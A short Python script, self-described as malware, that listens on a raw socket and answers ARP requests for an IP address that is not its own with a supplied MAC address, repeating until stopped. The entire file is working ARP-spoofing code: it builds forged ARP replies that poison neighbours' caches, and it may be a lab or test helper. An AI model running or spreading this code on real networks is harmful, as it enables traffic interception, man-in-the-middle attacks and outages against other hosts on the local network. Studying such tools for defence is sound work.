"""Malware that answers ARP for an address that is not its own (RFC 826), until it is ended.

arp_responder.py OWN_MAC ADDRESS
"""

from __future__ import annotations

import socket
import struct
import sys

ARP = 0x0806
PACKET = struct.Struct("!6s6sHHHBBH6s4s6s4s")
REQUEST, REPLY = 1, 2


def main(own: str, address: str) -> None:
    """Answer whoever asks."""
    mac, wanted = bytes.fromhex(own.replace(":", "")), socket.inet_aton(address)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ARP)) as wire:
        wire.bind(("eth0", ARP))
        sys.stdout.write("ready\n")
        sys.stdout.flush()
        while True:
            fields = PACKET.unpack_from(wire.recv(2048).ljust(PACKET.size, b"\0"))
            if fields[7] == REQUEST and fields[11] == wanted:
                head = (fields[1], mac, ARP, 1, 0x0800, 6, 4, REPLY)
                wire.send(PACKET.pack(*head, mac, wanted, fields[8], fields[9]))


if __name__ == "__main__":
    main(*sys.argv[1:])
